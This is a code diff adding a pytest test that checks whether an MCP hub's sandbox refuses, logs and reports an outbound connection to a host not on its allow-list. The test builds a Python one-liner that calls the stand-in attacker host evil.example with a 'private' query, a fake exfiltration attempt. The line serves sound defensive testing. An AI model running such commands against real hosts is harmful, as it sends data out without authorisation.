@@ -9,10 +9,12 @@ from pathlib import Path
 from typing import Any
 
 import anyio
+import anyio.to_thread
 import pytest
 
 from mcp_hub.clock import SystemClock
 from mcp_hub.upstreams.process.watchdog import Watchdog
+from tests.interaction.fronts import http_hub
 from tests.unit.cli.command import command_env, hub
 from tests.unit.sandbox.confined import needs_sandbox, sandbox_of
 
@@ -118,6 +120,25 @@ def test_the_command_tests_paths_and_hosts_without_a_start(tmp_path: Path) -> No
         assert (done.returncode, text in done.stdout) == (code, True), done.stdout
     assert not (tmp_path / "state/sandboxes").exists()
     assert hub(tmp_path, "sandbox", "s", "test").returncode == 2
+
+
+@pytest.mark.anyio
+async def test_refusals_are_in_the_answer_the_log_and_the_commands_of_a_running_hub(tmp_path: Path) -> None:
+    configure(tmp_path, sandbox={"net": ["api.example.com"]})
+    code = "import urllib.request as r; r.urlopen('http://evil.example:8443/?private')"
+    line = f'{sys.executable} -I -S -c "{code}"'
+    async with http_hub((tmp_path / "servers.yaml").read_text(), tmp_path):
+        commands = {
+            ("call", "s_sh", "--arg", f"line={line}"): 'add "evil.example:8443" to net',
+            ("sandbox", "s"): "refused in the running hub: 1 attempt, the latest at different targets:\n",
+            ("status",): "  s: its sandbox refused 1 attempt. Run mcp-hub sandbox s",
+            ("doctor", "s"): 'evil.example:8443 (the host is not in its rule); to allow it, add "evil.example:8443"',
+            ("logs", "s"): "hub: sandbox_refused target=evil.example:8443 reason=the host is not in its rule total=1",
+        }
+        for command, text in commands.items():
+            done = await anyio.to_thread.run_sync(hub, tmp_path, *command)
+            assert (done.returncode, text in done.stdout + done.stderr) == (0, True), done.stdout + done.stderr
+            assert command[0] == "call" or "private" not in done.stdout
 
 
 @pytest.mark.anyio
